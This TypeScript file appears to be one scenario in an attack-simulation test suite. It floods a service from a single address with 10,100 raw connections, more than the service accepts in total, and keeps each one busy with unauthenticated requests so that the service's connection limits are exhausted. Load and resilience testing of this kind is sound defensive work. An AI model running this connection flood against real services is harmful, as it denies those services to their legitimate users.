// More connections from one address than the service accepts in total. On each of them, occasional requests without a
// key are refused, so that none is idle for long.

import type { Socket } from 'node:net';
import { runAttack } from '../attacker/attack-run.ts';
import { openRawSockets, requestHead } from '../attacker/raw-sockets.ts';

const CONNECTIONS = 10_100;
/** Each connection gets one request in this time. */
const ROUND_MS = 4000;
const TICK_MS = 20;

runAttack(async ({ baseUrl }, run) => {
  const refused = requestHead('GET', '/v1/namespaces');
  const startMs = performance.now();
  const taken = new Set<Socket>();
  const take = (socket: Socket): void => {
    if (taken.size === CONNECTIONS || taken.add(socket).size < CONNECTIONS) return;
    run.setFloodDuration(performance.now() - startMs);
  };
  const sockets: readonly Socket[] = await openRawSockets(run, {
    url: baseUrl,
    count: CONNECTIONS,
    bytes: Buffer.from(refused),
    onText: (text, socket) => {
      run.count(text.slice('HTTP/1.1 '.length, 'HTTP/1.1 200'.length));
      take(socket);
    },
    onClose: take,
  });
  const perTick = Math.ceil((sockets.length * TICK_MS) / ROUND_MS);
  let isOver = false;
  void run.hold().then(() => {
    isOver = true;
  });
  for (let next = 0; !isOver || taken.size < CONNECTIONS; next += perTick) {
    for (let index = next; index < next + perTick; index += 1) {
      const socket = sockets[index % sockets.length];
      if (socket?.writable === true) socket.write(refused);
    }
    await new Promise((resolve) => setTimeout(resolve, TICK_MS));
  }
});
